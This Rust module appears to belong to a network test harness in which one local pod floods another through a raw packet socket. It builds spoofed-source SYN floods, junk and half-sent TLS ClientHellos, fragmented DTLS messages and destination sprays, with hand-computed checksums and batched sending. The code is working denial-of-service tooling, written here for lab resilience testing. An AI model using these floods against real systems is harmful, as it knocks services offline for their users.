//! A hostile pod's frames, built by hand and sent in bulk through a packet socket.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use nix::errno::Errno;
use nix::libc;
use nix::net::if_::if_nametoindex;
use nix::sys::socket::{AddressFamily, SockFlag, SockType, socket};

use crate::netns::Pod;

/// The kind of frames.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Flood {
    /// SYNs to one pod, from 131,072 addresses and any port.
    Syns,
    /// To one pod, a SYN and a garbage TLS hello each, from 16 addresses and any port.
    Hellos,
    /// A SYN and a plaintext request each, every one to another address.
    Destinations,
    /// To one pod, a SYN each and the first half of a record of 16 KB, of a ClientHello.
    HalfHellos,
    /// To one pod, over UDP, the first bytes of eight DTLS messages of 32 KB each.
    HalfMessages,
}

/// Frames per system call.
const BATCH: usize = 64;
/// Base of the senders' and the invented receivers' addresses (RFC 2544's range).
const INVENTED: u32 = Ipv4Addr::new(198, 18, 0, 0).to_bits();
const SYN: u8 = 0x02;
const PSH_ACK: u8 = 0x18;
const TCP: u8 = 6;
const UDP: u8 = 17;
/// Bytes of payload in a full segment.
const SEGMENT: usize = 1_400;

/// A pod's packet socket, ready to flood another pod.
pub struct Flooder {
    socket: OwnedFd,
    own: Ipv4Addr,
    victim: Ipv4Addr,
    /// The victim's address on the bridge.
    mac: [u8; 6],
    random: u64,
    frames: Vec<Vec<u8>>,
}

impl Flooder {
    /// Floods leave through `from`'s `eth0`, towards `victim`.
    pub fn new(from: &Pod, victim: &Pod) -> Result<Self> {
        let (socket, index) = from.enter(|| -> Result<_> {
            let kind = (AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC);
            let socket = socket(kind.0, kind.1, kind.2, None);
            let socket = socket.context("open a packet socket: needs root, with CAP_NET_RAW")?;
            Ok((socket, if_nametoindex("eth0")?))
        })??;
        // SAFETY: all zeros are a valid address.
        let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        address.sll_family = libc::AF_PACKET as u16;
        address.sll_ifindex = index as i32;
        // SAFETY: the address has the stated length, and outlives the call.
        let bound = unsafe {
            libc::bind(
                socket.as_raw_fd(),
                (&raw const address).cast(),
                size_of_val(&address) as u32,
            )
        };
        Errno::result(bound).context("bind the packet socket")?;
        let (std::net::IpAddr::V4(own), std::net::IpAddr::V4(victim_v4)) = (from.v4(), victim.v4())
        else {
            anyhow::bail!("a pod without an IPv4 address");
        };
        Ok(Self {
            socket,
            own,
            victim: victim_v4,
            mac: mac(victim)?,
            random: 88_172_645_463_325_252,
            frames: Vec::with_capacity(BATCH),
        })
    }

    /// Sends this many, at most at this rate (per second); returns the duration. One may be several
    /// frames.
    pub fn send(&mut self, flood: Flood, count: u32, rate: u32) -> Result<Duration> {
        let begun = Instant::now();
        for number in 0..count {
            self.one(flood, number);
            if self.frames.len() >= BATCH {
                self.flush()?;
                let due = Duration::from_secs_f64(f64::from(number) / f64::from(rate));
                std::thread::sleep(due.saturating_sub(begun.elapsed()));
            }
        }
        self.flush()?;
        Ok(begun.elapsed())
    }

    fn one(&mut self, flood: Flood, number: u32) {
        let random = self.next();
        let port = 1024 + (random >> 16) as u16 % 60_000;
        let seq = (random >> 32) as u32;
        match flood {
            Flood::Syns => {
                let src = Ipv4Addr::from_bits(INVENTED + (random as u32 & 0x1_ffff));
                self.put((src, port), (self.victim, 80), seq, SYN, &[]);
            }
            Flood::Hellos => {
                let src = Ipv4Addr::from_bits(INVENTED + number % 16);
                // The header of a record, and of a ClientHello.
                let mut hello = vec![22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
                while hello.len() < 517 {
                    hello.extend(self.next().to_ne_bytes());
                }
                self.put((src, port), (self.victim, 443), seq, SYN, &[]);
                self.put(
                    (src, port),
                    (self.victim, 443),
                    seq.wrapping_add(1),
                    PSH_ACK,
                    &hello[..517],
                );
            }
            Flood::HalfHellos => {
                let ends = ((self.own, port), (self.victim, 443));
                let mut half = vec![0x5a; 6 * SEGMENT];
                half[..11].copy_from_slice(&[22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc, 3, 3]);
                self.put(ends.0, ends.1, seq, SYN, &[]);
                for (number, segment) in half.chunks(SEGMENT).enumerate() {
                    let seq = seq.wrapping_add(1 + (number * SEGMENT) as u32);
                    self.put(ends.0, ends.1, seq, PSH_ACK, segment);
                }
            }
            Flood::HalfMessages => {
                for message in 0..8 {
                    // A record; a ClientHello's length, number, position and length here.
                    let mut bytes = vec![22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, message, 0, 14];
                    bytes.extend([1, 0, 0x80, 0, 0, message, 0, 0, 0, 0, 0, 2, 0xfe, 0xfd]);
                    self.put_datagram(port, (self.victim, 4433), &bytes);
                }
            }
            Flood::Destinations => {
                let dst = Ipv4Addr::from_bits(INVENTED + number);
                let request = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n";
                self.put((self.own, port), (dst, 80), seq, SYN, &[]);
                self.put(
                    (self.own, port),
                    (dst, 80),
                    seq.wrapping_add(1),
                    PSH_ACK,
                    request,
                );
            }
        }
    }

    /// A sufficiently random number (xorshift).
    fn next(&mut self) -> u64 {
        self.random ^= self.random << 13;
        self.random ^= self.random >> 7;
        self.random ^= self.random << 17;
        self.random
    }

    fn put(
        &mut self,
        (src, src_port): (Ipv4Addr, u16),
        (dst, dst_port): (Ipv4Addr, u16),
        seq: u32,
        flags: u8,
        payload: &[u8],
    ) {
        let mut tcp = [0; 20];
        tcp[..2].copy_from_slice(&src_port.to_be_bytes());
        tcp[2..4].copy_from_slice(&dst_port.to_be_bytes());
        tcp[4..8].copy_from_slice(&seq.to_be_bytes());
        if flags != SYN {
            tcp[8..12].copy_from_slice(&7_u32.to_be_bytes());
        }
        (tcp[12], tcp[13], tcp[14]) = (0x50, flags, 0xff);
        let mut whole = [&tcp[..], payload].concat();
        let sum = checksum(&whole, pseudo(src, dst, TCP, whole.len()));
        whole[16..18].copy_from_slice(&sum.to_be_bytes());
        self.put_packet(src, dst, TCP, &whole);
    }

    fn put_datagram(&mut self, src_port: u16, (dst, dst_port): (Ipv4Addr, u16), payload: &[u8]) {
        let len = 8 + payload.len() as u16;
        let header = [src_port, dst_port, len, 0].map(u16::to_be_bytes).concat();
        let mut whole = [&header[..], payload].concat();
        let sum = checksum(&whole, pseudo(self.own, dst, UDP, whole.len()));
        whole[6..8].copy_from_slice(&sum.to_be_bytes());
        self.put_packet(self.own, dst, UDP, &whole);
    }

    fn put_packet(&mut self, src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, payload: &[u8]) {
        let mut frame = Vec::with_capacity(34 + payload.len());
        frame.extend(self.mac);
        frame.extend([2, 0xbb, 0, 0, 0, 1, 8, 0]);
        let mut ip = [0; 20];
        (ip[0], ip[8], ip[9]) = (0x45, 64, protocol);
        ip[2..4].copy_from_slice(&(20 + payload.len() as u16).to_be_bytes());
        ip[12..16].copy_from_slice(&src.octets());
        ip[16..20].copy_from_slice(&dst.octets());
        let sum = checksum(&ip, 0);
        ip[10..12].copy_from_slice(&sum.to_be_bytes());
        frame.extend(ip);
        frame.extend(payload);
        self.frames.push(frame);
    }

    fn flush(&mut self) -> Result<()> {
        let mut vectors: Vec<libc::iovec> = self
            .frames
            .iter_mut()
            .map(|frame| libc::iovec {
                iov_base: frame.as_mut_ptr().cast(),
                iov_len: frame.len(),
            })
            .collect();
        let mut messages: Vec<libc::mmsghdr> = vectors
            .iter_mut()
            .map(|vector| {
                // SAFETY: all zeros are a valid header, of an empty message without an address.
                let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
                message.msg_hdr.msg_iov = vector;
                message.msg_hdr.msg_iovlen = 1;
                message
            })
            .collect();
        let mut rest = &mut messages[..];
        while !rest.is_empty() {
            // SAFETY: the messages and everything they point to outlive the call.
            let sent = unsafe {
                libc::sendmmsg(
                    self.socket.as_raw_fd(),
                    rest.as_mut_ptr(),
                    rest.len() as u32,
                    0,
                )
            };
            match Errno::result(sent) {
                Ok(sent) => rest = &mut rest[sent as usize..],
                // The queue is full.
                Err(Errno::ENOBUFS | Errno::EAGAIN) => {
                    std::thread::sleep(Duration::from_micros(100));
                }
                Err(error) => return Err(error).context("send frames"),
            }
        }
        self.frames.clear();
        Ok(())
    }
}

/// The Ethernet address of a pod's `eth0`.
fn mac(pod: &Pod) -> Result<[u8; 6]> {
    let found = pod.enter(|| -> Result<_> {
        Ok(nix::ifaddrs::getifaddrs()?
            .filter(|interface| interface.interface_name == "eth0")
            .find_map(|interface| interface.address?.as_link_addr()?.addr()))
    })??;
    let mac = found.with_context(|| format!("{} has no eth0", pod.name()))?;
    ensure!(mac != [0; 6], "the eth0 of {} has no address", pod.name());
    Ok(mac)
}

fn word(pair: &[u8]) -> u32 {
    u32::from(pair[0]) << 8 | u32::from(pair.get(1).copied().unwrap_or_default())
}

/// The sum of the pseudo header (RFC 9293 §3.1) of a packet with `len` bytes of payload.
fn pseudo(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, len: usize) -> u32 {
    let addresses = [src.octets(), dst.octets()].concat();
    addresses.chunks_exact(2).map(word).sum::<u32>() + u32::from(protocol) + len as u32
}

/// The Internet checksum (RFC 1071) of `bytes`, added to an earlier sum.
fn checksum(bytes: &[u8], before: u32) -> u16 {
    let mut sum = bytes.chunks(2).map(word).sum::<u32>() + before;
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::checksum;

    #[test]
    fn a_checksum_is_that_of_the_rfc() {
        // RFC 1071 §3.
        let bytes = [0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        assert_eq!(checksum(&bytes, 0), !0xddf2);
        assert_eq!(checksum(&[1], 0), !0x0100);
    }
}
